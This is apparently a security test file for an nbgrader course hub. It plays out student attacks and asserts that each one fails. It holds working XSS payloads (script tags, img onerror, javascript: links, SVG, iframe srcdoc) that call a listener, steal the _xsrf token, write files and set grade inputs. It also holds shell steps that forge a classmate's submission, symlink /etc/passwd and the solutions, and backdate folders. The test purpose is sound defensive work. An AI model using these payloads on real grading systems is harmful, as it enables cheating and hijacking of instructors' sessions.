"""On the hub, nothing a student hands in runs, reads or writes outside its own grade: tried as the
students would (their Unix users, their tokens) on ``a2_pooling``, after the exchange cycle of
test_course_hub.py.

==========  =====================================================================================
student     what they do
==========  =====================================================================================
forger      ``nbgrader submit --student=<victim>``; a folder in the victim's name written into
            ``inbound/`` by hand; then a submission of their own whose notebook is a symbolic
            link to the instructor's solution notebook, beside ``notes -> /etc/passwd``
victim      hands in right answers in a notebook that also carries script payloads of every kind
            (HTML, markdown, SVG, JavaScript, a widget, links, an iframe, an attachment)
clock       a folder of their own named for 2099, then a real submission; after the due date, a
            folder whose name and ``timestamp.txt`` say one second before it
==========  =====================================================================================
"""

from __future__ import annotations

import base64
import copy
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from nbgrader_course import solution_code  # tests/instructor
from sandbox_checks import Listener

pytestmark = [pytest.mark.slow, pytest.mark.hub]

A2 = "a2_pooling"
NOTEBOOK = f"{A2}/{A2}.ipynb"
ROOT = Path(__file__).resolve().parents[2]
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>{js}</script><circle cx="20" cy="20" r="9"/></svg>'


def attack_js(port: int, instructor: str, tag: str) -> str:
    """What every payload runs if it can: phone home, write a file into the viewer's server, and
    give itself 5 points of extra credit in Formgrader's own inputs."""
    return (f"fetch('http://127.0.0.1:{port}/{tag}').catch(()=>0);"
            f"new Image().src='http://127.0.0.1:{port}/img-{tag}';"
            "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            f"fetch(location.pathname.split('/formgrader')[0].split('/files')[0]+'/api/contents/pwned-{tag}.txt',"
            "{method:'PUT',headers:{'X-XSRFToken':x||'','Content-Type':'application/json'},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})}).catch(()=>0);"
            "document.querySelectorAll('input').forEach(function(i){i.value='5';"
            "i.dispatchEvent(new Event('change',{bubbles:true}));i.dispatchEvent(new Event('blur'));});")


def payload_cells(port: int, instructor: str) -> list[dict]:
    """A markdown cell and a code cell carrying every kind of payload, and a plot."""
    js = lambda tag: attack_js(port, instructor, tag)  # noqa: E731
    markdown = {
        "cell_type": "markdown", "id": "payload-markdown", "metadata": {},
        "source": (f"Maths: $x^2 + y_1$\n\n<script>{js('md-script')}</script>\n\n"
                   f"<img src=x onerror=\"{js('md-img')}\">\n\n"
                   f"<a href=\"javascript:{js('md-link')}\">a link</a>\n\n"
                   f"<iframe srcdoc=\"<script>{js('srcdoc')}</script>\"></iframe>\n\n"
                   "![attached](attachment:evil.svg)"),
        "attachments": {"evil.svg": {"image/svg+xml": base64.b64encode(
            SVG.format(js=js("attachment")).encode()).decode()}},
    }
    code = "\n".join([
        "from IPython.display import HTML, Javascript, SVG, display",
        "import ipywidgets",
        "import matplotlib.pyplot as plt",
        "%matplotlib inline",
        f"display(HTML({('<img src=x onerror=' + chr(34) + js('out-html') + chr(34) + '>')!r}))",
        f"display(Javascript({js('out-js')!r}))",
        f"display(SVG({SVG.format(js=js('out-svg'))!r}))",
        "display(ipywidgets.IntSlider(value=3))",
        "plt.plot([0, 1, 2], [2, 0, 1])",
        "plt.title('a plot')",
        "plt.show()",
    ])
    return [markdown, {"cell_type": "code", "id": "payload-code", "metadata": {}, "execution_count": None,
                       "outputs": [], "source": code}]


def answered(notebook: dict, cells=()) -> dict:
    notebook = copy.deepcopy(notebook)
    code = solution_code(A2)
    for cell in notebook["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if cell["metadata"].get("nbgrader", {}).get("solution") and grade_id in code:
            cell["source"] = code[grade_id]
    notebook["cells"][2:2] = list(cells)
    return notebook


def utc(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S.%f UTC")


@pytest.fixture(scope="module")
def a2(course_hub_running):
    """a2 released (due in a week); the three students' roles; every attack made; collected."""
    hub = course_hub_running
    settings, instructor = hub.settings, hub.instructor
    forger, victim, clock = hub.students
    course = settings.course_id
    inbound = Path(settings.exchange) / course / "inbound"
    listener = Listener()
    due = datetime.now(UTC) + timedelta(days=7)
    instructor.formgrader("PUT", f"assignment/{A2}", {"duedate_notimezone": due.strftime("%Y-%m-%d %H:%M:%S"),
                                                      "duedate_timezone": "UTC"})
    instructor.formgrader("POST", f"assignment/{A2}/assign")
    instructor.formgrader("POST", f"assignment/{A2}/release")
    for student in (forger, victim, clock):
        student.assignment_action("fetch", course, A2)
    out = {"listener": listener, "inbound": inbound}

    # the forger: submit in the victim's name, then write a folder in the victim's name by hand
    home = settings.home(forger.name)
    out["submit_as_victim"] = [hub.as_user(forger.name, "nbgrader", "submit", A2, *option, cwd=str(home))
                               for option in (["--student", victim.name], [f"--CourseDirectory.student_id={victim.name}"])]
    forged = inbound / f"{victim.name}+{A2}+{utc(datetime.now(UTC) + timedelta(days=365 * 70))}+forged"
    out["forge"] = hub.as_user(forger.name, "sh", "-c", f"mkdir '{forged}' && cp '{home / NOTEBOOK}' '{forged}/'")
    # the victim: right answers with every payload
    victim.write_notebook(NOTEBOOK, answered(victim.read_notebook(NOTEBOOK), payload_cells(listener.port, settings.instructor)))
    victim.assignment_action("submit", course, A2)
    # the clock: a folder of its own named for 2099 with the blank notebook, then a real submission
    future = inbound / f"{clock.name}+{A2}+{utc(datetime(2099, 1, 1, tzinfo=UTC))}+future"
    out["future"] = hub.as_user(clock.name, "sh", "-c",
                                f"mkdir '{future}' && cp '{settings.home(clock.name) / NOTEBOOK}' '{future}/'")
    clock.write_notebook(NOTEBOOK, answered(clock.read_notebook(NOTEBOOK)))
    clock.assignment_action("submit", course, A2)
    # the forger's own folder: its notebook a link to the solutions, and a link to /etc/passwd
    solutions = settings.course_dir() / "solutions" / A2 / f"{A2}.ipynb"
    linked = inbound / f"{forger.name}+{A2}+{utc(datetime.now(UTC))}+linked"
    out["links"] = hub.as_user(forger.name, "sh", "-c",
                               f"mkdir '{linked}' && ln -s '{solutions}' '{linked}/{A2}.ipynb' && ln -s /etc/passwd '{linked}/notes'")
    out["collect"] = instructor.request("POST", f"formgrader/api/assignment/{A2}/collect").json()
    status, out["autograde"] = instructor.terminal(f"cd ~/course && python -m course_utils.instructor.autograde {A2} --jobs 2")
    out["autograde_status"] = status
    out["submissions"] = {s["student"]: s for s in instructor.formgrader("GET", f"submissions/{A2}")}
    instructor.formgrader("POST", f"assignment/{A2}/generate_feedback")
    instructor.formgrader("POST", f"assignment/{A2}/release_feedback")
    for student in (forger, victim, clock):
        student.assignment_action("fetch_feedback", course, A2)
    yield out
    listener.close()


def test_a_submission_in_a_classmates_name_is_refused_at_submit(course_hub_running, a2):
    victim = course_hub_running.students[1].name
    for result in a2["submit_as_victim"]:
        said = result.stdout + result.stderr
        assert result.returncode != 0 and f"--student={victim}: you are {course_hub_running.students[0].name}" in said, said[-2000:]
    owners = {path.stat().st_uid for path in a2["inbound"].glob(f"{victim}+{A2}+*")}
    import pwd

    assert pwd.getpwnam(course_hub_running.students[0].name).pw_uid in owners  # only the folder written by hand


def test_collect_takes_each_folder_from_its_owner_only_and_says_what_it_refused(course_hub_running, a2):
    forger, victim, clock = (student.name for student in course_hub_running.students)
    assert a2["forge"].returncode == 0 and a2["links"].returncode == 0, (a2["forge"].stderr, a2["links"].stderr)
    collect = a2["collect"]
    assert collect["success"] is False, "Formgrader would say Success"
    said = collect.get("error", "") + collect.get("log", "")
    assert re.search(rf"{re.escape(victim)}\+{A2}\+\S+ \S+ UTC\+forged: says it is {victim}'s but was written by {forger}",
                     said), said[-3000:]
    assert f"+linked/{A2}.ipynb: a symbolic link to" in said and "+linked/notes: a symbolic link to /etc/passwd" in said
    assert "Collecting submission: " + victim in said or "Updating submission: " + victim in said


def test_the_victim_keeps_their_grade_and_feedback_and_the_forger_gets_nothing_of_the_solutions(course_hub_running, a2):
    hub = course_hub_running
    forger, victim, clock = hub.students
    scores = {name: submission["score"] for name, submission in a2["submissions"].items()}
    assert scores[victim.name] == 10, a2["autograde"]
    assert scores[forger.name] == 0, a2["autograde"]
    instructor_course = hub.settings.course_dir()
    for path in (instructor_course / "submitted" / forger.name / A2).rglob("*"):
        assert not path.is_symlink() and "BEGIN SOLUTION" not in path.read_text(errors="replace")
    assert not (instructor_course / "submitted" / forger.name / A2 / "notes").exists()
    feedback = list((hub.settings.home(victim.name) / A2 / "feedback").rglob("*.html"))
    assert len(feedback) == 1, "the victim gets their feedback"
    released = (ROOT / "assignments" / A2 / f"{A2}.ipynb").read_text()
    solution_lines = [line for line in solution_code(A2)["max_pool2d"].splitlines()
                      if len(line.strip()) > 20 and json.dumps(line.strip())[1:-1] not in released]
    assert solution_lines, "the solution has lines of its own"
    for path in hub.settings.home(forger.name).rglob("*"):
        if path.is_file() and not path.is_symlink():
            text = path.read_text(errors="replace")
            assert "BEGIN SOLUTION" not in text and "BEGIN HIDDEN TESTS" not in text, path
            if A2 in str(path):  # the forger wrote no max_pool2d: none of the solution's lines
                assert not any(line.strip() in text for line in solution_lines), path


def test_the_time_is_when_a_folder_reached_the_exchange_not_what_its_name_says(course_hub_running, a2):
    hub = course_hub_running
    instructor, clock = hub.instructor, hub.students[2]
    assert a2["future"].returncode == 0, a2["future"].stderr
    assert a2["submissions"][clock.name]["score"] == 10, "the real submission, not the 2099 folder, was collected"
    first = instructor.formgrader("GET", f"submission/{A2}/{clock.name}")
    assert not first["timestamp"].startswith("2099")
    # after the due date: a folder whose name and timestamp.txt say one second before it
    due = datetime.now(UTC) - timedelta(hours=1)
    instructor.formgrader("PUT", f"assignment/{A2}", {"duedate_notimezone": due.strftime("%Y-%m-%d %H:%M:%S"),
                                                      "duedate_timezone": "UTC"})
    claimed = utc(due - timedelta(seconds=1))
    folder = a2["inbound"] / f"{clock.name}+{A2}+{claimed}+backdated"
    notebook = hub.settings.home(clock.name) / NOTEBOOK
    made = hub.as_user(clock.name, "sh", "-c", f"mkdir '{folder}' && cp '{notebook}' '{folder}/' && "
                       f"echo '{claimed}' > '{folder}/timestamp.txt' && touch -d '{due - timedelta(seconds=1):%Y-%m-%d %H:%M:%S} UTC' '{folder}' '{folder}'/*")
    assert made.returncode == 0, made.stderr
    collected = instructor.request("POST", f"formgrader/api/assignment/{A2}/collect").json()
    assert f"Updating submission: {clock.name}" in collected.get("log", "") + collected.get("error", "")
    stamp = (hub.settings.course_dir() / "submitted" / clock.name / A2 / "timestamp.txt").read_text()
    assert datetime.strptime(stamp[:19], "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC) > due, stamp
    assert not stamp.startswith(claimed[:19]), "the name's and timestamp.txt's time were believed"


@pytest.mark.browser
def test_no_script_from_a_submission_runs_in_formgrader_or_the_feedback_and_the_plot_shows(
        course_hub_running, a2, tmp_path_factory):
    from test_course_hub import CHROMIUM, log_in

    if not CHROMIUM.exists():
        pytest.fail(f"the browser test needs {CHROMIUM}: apt-get install chromium")
    from playwright.sync_api import sync_playwright

    hub = course_hub_running
    settings, instructor, victim = hub.settings, hub.instructor, hub.students[1]
    notebooks = instructor.formgrader("GET", f"submitted_notebooks/{A2}/{A2}")
    submission_id = next(entry["id"] for entry in notebooks if entry["student"] == victim.name)
    before = instructor.formgrader("GET", f"submission/{A2}/{victim.name}")
    feedback = sorted((settings.home(victim.name) / A2 / "feedback").rglob("*.html"))[0]
    feedback_path = feedback.relative_to(settings.home(victim.name))
    shots = ROOT / "artifacts" / "hub"
    shots.mkdir(parents=True, exist_ok=True)
    seen = {}
    with sync_playwright() as playwright:
        for user, url, shot in (
                (settings.instructor, f"{settings.user_url(settings.instructor)}formgrader/submissions/{submission_id}/",
                 "10-formgrader-manual-grading-payloads.png"),
                (victim.name, f"{settings.user_url(victim.name)}files/{feedback_path}", "11-feedback-payloads.png")):
            context, page = log_in(playwright, tmp_path_factory, hub, user)
            requests_seen = []
            page.on("request", lambda request: requests_seen.append(request.url))
            dialogs = []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.goto(url)
            page.wait_for_load_state("load")
            page.wait_for_timeout(2500)
            page.screenshot(path=str(shots / shot), full_page=True)
            plots = page.evaluate("() => Array.from(document.images).filter(i => i.src.startsWith('data:image/png')"
                                  " && i.naturalWidth > 0).length")
            seen[user] = {"requests": [u for u in requests_seen if "127.0.0.1:%d" % a2["listener"].port in u
                                       or "pwned" in u], "dialogs": dialogs, "plots": plots,
                          "maths": "x^2 + y_1" in page.inner_text("body")}
            context.close()
    after = instructor.formgrader("GET", f"submission/{A2}/{victim.name}")
    assert a2["listener"].connections == 0, seen
    for user, what in seen.items():
        assert what["requests"] == [] and what["dialogs"] == [], (user, what)
        assert what["plots"] >= 1, (user, "the plot does not show")
        assert what["maths"], (user, "the maths text is gone")
    for user in (settings.instructor, victim.name):
        assert not list(settings.home(user).rglob("pwned-*")), f"a payload wrote into {user}'s files"
    assert after["score"] == before["score"] == 10
    grades = instructor.formgrader("GET", f"grades?submission_id={submission_id}")
    assert all((grade.get("extra_credit") or 0) == 0 and grade.get("manual_score") is None for grade in grades), grades


def test_the_repository_the_hub_runs_from_keeps_its_solutions_from_students(course_hub_running):
    hub = course_hub_running
    student = hub.students[0].name
    for path in (ROOT / "solutions" / A2 / f"{A2}.ipynb", ROOT / ".git" / "HEAD"):
        if path.exists():
            result = hub.as_user(student, "cat", str(path))
            assert result.returncode != 0 and "Permission denied" in result.stderr, (path, result.stdout[:100])
